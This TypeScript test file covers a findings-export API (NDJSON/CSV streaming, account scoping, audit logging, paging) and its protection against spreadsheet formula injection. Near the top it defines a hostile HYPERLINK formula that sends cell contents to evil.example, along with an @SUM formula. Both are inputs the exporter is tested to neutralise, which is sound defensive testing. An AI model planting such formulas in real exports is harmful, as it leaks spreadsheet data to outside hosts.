// GET /api/v1/findings/export: every selected finding as NDJSON or CSV, streamed in pages, within the caller's scope,
// formula-safe, and recorded in the audit log with its size.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CSV_COLUMNS, EXPORT_PAGE_SIZE, exportFindings, spreadsheetSafe } from '../../src/api/finding-export.js';
import { parseAuditQuery } from '../../src/audit/audit-query.js';
import type { StoredAuditEntry } from '../../src/audit/audit-entry.js';
import { bindQuery } from '../../src/query/bind.js';
import { parseQuery } from '../../src/query/parser.js';
import type { FindingStore } from '../../src/store/finding-store.js';
import { findingDoc, finding } from '../fixtures/findings.js';
import { harness, type Harness } from '../support/harness.js';

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const HOSTILE_DESCRIPTION = '@SUM(1+1)\r\n"quoted", line\u2028and more';
const MANY = EXPORT_PAGE_SIZE * 4 + 17;

/** The rows of a CSV text as DuckDB's CSV reader reads them (every cell as text), header included. */
async function parse(text: string): Promise<string[][]> {
  const dir = await mkdtemp(path.join(tmpdir(), 'yagura-csv-'));
  const { DuckDBInstance } = await import('@duckdb/node-api');
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  try {
    const file = path.join(dir, 'export.csv');
    await writeFile(file, text);
    const reader = await connection.runAndReadAll(
      `SELECT * FROM read_csv('${file.replaceAll("'", "''")}', header = false, all_varchar = true, delim = ',', quote = '"', escape = '"', auto_detect = false, columns = ${columnsSql()})`,
    );
    return reader.getRowsJS().map((r) => r.map((c) => (c === null ? '' : String(c))));
  } finally {
    connection.closeSync();
    instance.closeSync();
    await rm(dir, { recursive: true, force: true });
  }
}

function columnsSql(): string {
  return `{${CSV_COLUMNS.map((c) => `'${c}': 'VARCHAR'`).join(', ')}}`;
}

function ndjsonIds(body: string): string[] {
  return body
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => (JSON.parse(l) as { yagura: { id: string } }).yagura.id);
}

describe('finding export', () => {
  let h: Harness;
  let url = '';
  const admin = async (method: 'POST', path: string, payload: unknown): Promise<Record<string, any>> => {
    const res = await h.app.inject({ method, url: path, headers: h.auth, payload: payload as Record<string, unknown> });
    assert.ok(res.statusCode < 300, `${method} ${path}: ${res.body}`);
    return res.json() as Record<string, any>;
  };
  const keyFor = async (name: string, document: unknown): Promise<Record<string, string>> => {
    await admin('POST', '/api/v1/policies', { name, document });
    await admin('POST', '/api/v1/roles', { name, policies: [name] });
    const created = await admin('POST', '/api/v1/keys', { name, role: name });
    return { 'x-api-key': created.key as string };
  };
  const ingest = async (docs: Record<string, unknown>[]): Promise<void> => {
    for (let i = 0; i < docs.length; i += 200) {
      const res = await h.app.inject({ method: 'POST', url: '/api/v1/events', headers: h.auth, payload: docs.slice(i, i + 200) });
      assert.equal(res.statusCode, 200, res.body);
    }
  };

  before(async () => {
    h = await harness();
    url = await h.app.listen({ host: '127.0.0.1', port: 0 });
    const base = Date.parse('2026-11-01T00:00:00Z');
    const docs: Record<string, unknown>[] = [];
    for (let i = 0; i < MANY; i++) {
      docs.push(findingDoc({ id: `bulk-${String(i).padStart(5, '0')}`, accountId: '111111111111', updatedAt: new Date(base + i * 60_000).toISOString(), createdAt: new Date(base).toISOString() }));
    }
    docs.push(findingDoc({ id: 'other-account', accountId: '222222222222', updatedAt: '2026-11-10T00:00:00.000Z', title: 'not yours' }));
    docs.push(findingDoc({ id: 'hostile', accountId: '333333333333', updatedAt: '2026-11-11T00:00:00.000Z', title: HOSTILE_TITLE, extra: { description: HOSTILE_DESCRIPTION } }));
    await ingest(docs);
  });
  after(async () => h.close());

  test('NDJSON holds every finding the query selects, oldest first, each as the search presents it', async () => {
    const res = await fetch(`${url}/api/v1/findings/export?q=${encodeURIComponent('accountId:111111111111')}&from=2026-10-01T00:00:00Z`, { headers: h.auth });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^application\/x-ndjson/);
    assert.equal(res.headers.get('content-length'), null, 'streamed, not buffered');
    const body = await res.text();
    const ids = ndjsonIds(body);
    assert.equal(ids.length, MANY);
    assert.deepEqual(ids, [...ids].sort(), 'oldest updatedAt first, across pages');
    assert.equal(new Set(ids).size, MANY, 'no finding twice across page boundaries');
    const first = JSON.parse(body.slice(0, body.indexOf('\n'))) as { finding: Record<string, unknown>; yagura: Record<string, unknown> };
    assert.equal(first.finding.id, 'bulk-00000');
    assert.equal(first.yagura.band, 'High');
  });

  test('the time range bounds the export', async () => {
    const res = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?q=accountId:111111111111&from=2026-11-01T00:00:00Z&to=2026-11-01T00:09:59Z', headers: h.auth });
    assert.equal(res.statusCode, 200);
    assert.deepEqual(ndjsonIds(res.body), Array.from({ length: 10 }, (_, i) => `bulk-${String(i).padStart(5, '0')}`));
  });

  test('CSV has the documented columns, quotes what needs quoting and neutralises formulas', async () => {
    const res = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?q=id:hostile&from=2026-10-01T00:00:00Z&format=csv', headers: h.auth });
    assert.equal(res.statusCode, 200);
    assert.match(res.headers['content-type'] as string, /^text\/csv/);
    const rows = await parse(res.body);
    assert.deepEqual(rows[0], [...CSV_COLUMNS]);
    assert.equal(rows.length, 2);
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]!]));
    assert.equal(row.title, `'${HOSTILE_TITLE}`, 'a formula becomes text');
    assert.equal(row.description, `'${HOSTILE_DESCRIPTION}`, 'an @ formula becomes text; CR, LF and quotes survive quoted');
    assert.equal(row.accountId, '333333333333');
    assert.equal(row.band, 'High');
    const document = JSON.parse(row.document!) as Record<string, unknown>;
    assert.equal(document.title, HOSTILE_TITLE, 'the document column keeps the text exactly');
    for (const cell of rows[1]!) assert.doesNotMatch(cell, /^\s*[=+\-@]/, 'no cell starts as a formula');
  });

  test('an empty export is the CSV header alone, or nothing in NDJSON', async () => {
    const csv = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?q=id:nothing-like-this&format=csv', headers: h.auth });
    assert.equal(csv.statusCode, 200);
    assert.deepEqual(await parse(csv.body), [[...CSV_COLUMNS]]);
    const nd = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?q=id:nothing-like-this', headers: h.auth });
    assert.equal(nd.body, '');
  });

  test('a restricted principal exports only its own accounts, and needs yagura:ExportFindings', async () => {
    const exporter = await keyFor('export-one-account', {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Action: 'yagura:ExportFindings', Resource: 'arn:aws:guardduty:*:222222222222:detector/*/finding/*' }],
    });
    const res = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?from=2026-10-01T00:00:00Z', headers: exporter });
    assert.equal(res.statusCode, 200);
    assert.deepEqual(ndjsonIds(res.body), ['other-account']);
    const asked = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?q=accountId:111111111111&from=2026-10-01T00:00:00Z', headers: exporter });
    assert.equal(asked.statusCode, 200);
    assert.equal(asked.body, '', 'asking for another account by name selects nothing');

    const searcher = await keyFor('search-only', { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'yagura:SearchFindings', Resource: '*' }] });
    const refused = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export', headers: searcher });
    assert.equal(refused.statusCode, 403);
    assert.equal(refused.json().error.code, 'ACCESS_DENIED');
  });

  test('bad parameters are coded 400s', async () => {
    const format = await h.app.inject({ method: 'GET', url: '/api/v1/findings/export?format=xlsx', headers: h.auth });
    assert.equal(format.statusCode, 400);
    assert.equal(format.json().error.code, 'INVALID_PARAMETER');
    const query = await h.app.inject({ method: 'GET', url: `/api/v1/findings/export?q=${encodeURIComponent('severity >= ')}`, headers: h.auth });
    assert.equal(query.statusCode, 400);
    assert.equal(query.json().error.code, 'INVALID_QUERY');
  });

  test('the audit log records the export with its finding count and bytes', async () => {
    const res = await fetch(`${url}/api/v1/findings/export?q=accountId:111111111111&from=2026-10-01T00:00:00Z&format=csv`, { headers: { ...h.auth, 'x-request-id': 'export-audit' } });
    const body = Buffer.from(await res.arrayBuffer());
    assert.equal(res.status, 200);
    await h.embedded.backend.audit.flush();
    const entries = (await h.embedded.backend.audit.search({ query: parseAuditQuery('action:"yagura:ExportFindings" and status:200', Date.now()), size: 100 })).entries as StoredAuditEntry[];
    const entry = entries.find((e) => e.resultSize === body.byteLength);
    assert.ok(entry, `an entry with resultSize ${body.byteLength} among ${JSON.stringify(entries.map((e) => [e.items, e.resultSize]))}`);
    assert.equal(entry.items, MANY);
    assert.equal(entry.route, '/api/v1/findings/export');
  });
});

describe('the export reads pages as they are consumed', () => {
  let h: Harness;
  before(async () => {
    h = await harness();
    const docs = Array.from({ length: EXPORT_PAGE_SIZE * 3 }, (_, i) => finding({ id: `p-${i}`, updatedAt: new Date(Date.parse('2026-11-01T00:00:00Z') + i * 1000).toISOString() }));
    await h.embedded.pipeline.submit(docs);
  });
  after(async () => h.close());

  test('the next page is read only when the previous one has been taken', async () => {
    let reads = 0;
    const store = new Proxy(h.embedded.store, {
      get(target, prop, receiver) {
        if (prop === 'search') return (...args: Parameters<FindingStore['search']>) => ((reads++), target.search(...args));
        return Reflect.get(target, prop, receiver) as unknown;
      },
    });
    const pages = exportFindings(store, { query: bindQuery(parseQuery('')), format: 'ndjson' }, Date.now());
    const first = await pages.next();
    assert.equal(first.done, false);
    assert.equal(reads, 1, 'one page read for the first chunk');
    await new Promise((resolve) => setTimeout(resolve, 50));
    assert.equal(reads, 1, 'nothing read ahead while the consumer waits');
    let lines = (first.value as string).split('\n').length - 1;
    for await (const chunk of pages) lines += chunk.split('\n').length - 1;
    assert.equal(lines, EXPORT_PAGE_SIZE * 3);
    assert.equal(reads, 3, 'three pages, the last one saying nothing follows');
  });

  test('spreadsheetSafe neutralises every formula opener, also behind spaces and in full width', () => {
    for (const text of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '  =1', '\u3000=1', '\uff1d1+1', '\uff20A1']) assert.equal(spreadsheetSafe(text), `'${text}`, JSON.stringify(text));
    for (const text of ['1+1', 'a=b', 'UnauthorizedAccess:EC2/TorClient', '']) assert.equal(spreadsheetSafe(text), text);
  });
});
